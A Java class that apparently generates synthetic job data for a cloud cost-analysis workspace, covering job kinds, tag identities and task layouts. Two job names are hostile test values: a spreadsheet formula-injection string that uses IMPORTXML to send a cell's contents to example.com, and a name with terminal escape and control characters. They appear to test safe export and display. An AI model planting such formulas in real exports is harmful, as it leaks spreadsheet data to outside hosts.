package dev.costinsights.workspace.sample;

import dev.costinsights.workspace.company.Company;
import dev.costinsights.workspace.company.Names;
import dev.costinsights.workspace.company.Rng;
import dev.costinsights.workspace.company.Workspace;
import dev.costinsights.workspace.sample.Job.Identity;
import dev.costinsights.workspace.sample.Job.Kind;
import java.util.ArrayList;
import java.util.List;

/** Builds the jobs: half of them serverless, a third on clusters of their own, some on all-purpose clusters and warehouses. */
final class JobFleet {
    private static final long ROWS_PER_JOB = 400;
    private static final int FEWEST = 60;
    private static final int MOST = 2_000;
    private static final double ROWS_PER_RUN = 1.4;
    private static final double SERVERLESS_SHARE = 0.5;
    /** Job with the same id as {@link #REPEATED_ID}, in another workspace. */
    static final int REPEATING_ID = 22;

    private static final int REPEATED_ID = 1;

    private static final List<Kind> KINDS = List.of(
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.SERVERLESS,
            Kind.JOB_CLUSTER,
            Kind.JOB_CLUSTER,
            Kind.JOB_CLUSTER,
            Kind.JOB_CLUSTER,
            Kind.JOB_CLUSTER,
            Kind.ALL_PURPOSE_CLUSTER,
            Kind.ALL_PURPOSE_CLUSTER,
            Kind.WAREHOUSE,
            Kind.PIPELINE,
            Kind.SUBMIT);

    private static final List<Identity> IDENTITIES = List.of(
            Identity.DAGSTER_TAGS,
            Identity.DAGSTER_TAGS,
            Identity.DAGSTER_TAGS,
            Identity.DAGSTER_TAGS,
            Identity.NEUTRAL_TAGS,
            Identity.NEUTRAL_TAGS,
            Identity.OLD_KEY_TAG,
            Identity.JOB_PARAMETERS,
            Identity.JOB_PARAMETERS,
            Identity.TEAM_TAG_ONLY,
            Identity.TEAM_TAG_ONLY,
            Identity.TEAM_TAG_ONLY,
            Identity.NULL_TAGS);

    private final long seed;
    private final List<AllPurposeCluster> clusters;
    private final double meanRunsPerDay;
    private final List<Job> jobs = new ArrayList<>();

    private JobFleet(long seed, List<AllPurposeCluster> clusters, double meanRunsPerDay) {
        this.seed = seed;
        this.clusters = clusters;
        this.meanRunsPerDay = meanRunsPerDay;
    }

    static List<Job> build(SampleOptions options, Meter meter, List<AllPurposeCluster> clusters) {
        int n = (int) Math.max(FEWEST, Math.min(MOST, options.otherUsage() / ROWS_PER_JOB));
        double rowsPerDay = meter.rows(ProductLine.SERVERLESS_JOBS) / options.days();
        double runsPerDay = rowsPerDay / ROWS_PER_RUN / (n * SERVERLESS_SHARE);
        JobFleet fleet = new JobFleet(options.seed(), clusters, runsPerDay);
        for (int i = 0; i < n; i++) {
            fleet.jobs.add(fleet.job(i));
        }
        return List.copyOf(fleet.jobs);
    }

    private Job job(int i) {
        Rng rng = Rng.of(seed, "job", i);
        Kind kind = KINDS.get(i % KINDS.size());
        // The fifth job of each block of twenty starts the sixth.
        Job parent = i % KINDS.size() == 6 ? jobs.get(i - 1) : null;
        AllPurposeCluster cluster = kind == Kind.ALL_PURPOSE_CLUSTER ? clusters.get(i % clusters.size()) : null;
        String id = i == REPEATING_ID
                ? jobs.get(REPEATED_ID).id()
                : String.valueOf(100_000_000_000_000L + rng.below(899_999_999_999_999L));
        Identity identity = kind == Kind.SUBMIT
                ? rng.pick(List.of(Identity.DAGSTER_TAGS, Identity.RUN_NAME, Identity.OLD_KEY_TAG))
                : i % 40 == 10 ? Identity.DISAGREEING_TAGS : rng.pick(IDENTITIES);
        String orchestratorJob = Names.ORCHESTRATOR_JOBS.get(i % Names.ORCHESTRATOR_JOBS.size());
        String team = rng.pick(Company.TEAMS);
        String name = name(i, orchestratorJob, team);
        boolean changes = i % 13 == 6 && kind != Kind.SUBMIT;
        return new Job(
                i,
                parent != null ? parent.workspace() : cluster != null ? cluster.workspace() : workspace(i),
                id,
                name,
                changes ? name + "_v2" : null,
                kind,
                identity,
                rng.chance(0.7) ? rng.pick(Company.SERVICE_PRINCIPALS) : rng.pick(Company.PEOPLE),
                meanRunsPerDay * (0.3 + 1.4 * rng.unit()),
                cluster,
                parent,
                i % 5 != 4,
                taskKeys(i, kind),
                ObjectTags.of(identity, rng, team, orchestratorJob),
                ObjectTags.of(identity, rng, team, orchestratorJob));
    }

    private static Workspace workspace(int index) {
        int place = index * 7 % 10;
        return Company.WORKSPACES.get(place < 4 ? 0 : place < 7 ? 1 : place < 9 ? 2 : 3);
    }

    private static String name(int index, String orchestratorJob, String team) {
        return switch (index) {
            case 3 -> "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")";
            case 4 -> "naïve 🐘 job\u0001\u001b[31m \"quoted\"\r\n";
            default -> orchestratorJob + '_' + team + '_' + index;
        };
    }

    private static List<String> taskKeys(int index, Kind kind) {
        if (index % KINDS.size() == 5) {
            return List.of("prepare", Job.START_CHILD, "publish");
        }
        if (kind == Kind.PIPELINE || kind == Kind.SUBMIT) {
            return List.of("main");
        }
        if (index % 11 == 3) {
            return List.of("prepare", Job.FOR_EACH, "publish");
        }
        return switch (index % 4) {
            case 0 -> List.of("main");
            case 1 -> List.of("extract", "load");
            case 2 -> List.of("extract", "transform_a", "transform_b", "load");
            default -> List.of("extract", "transform_a", "transform_b", "transform_c", "load");
        };
    }
}
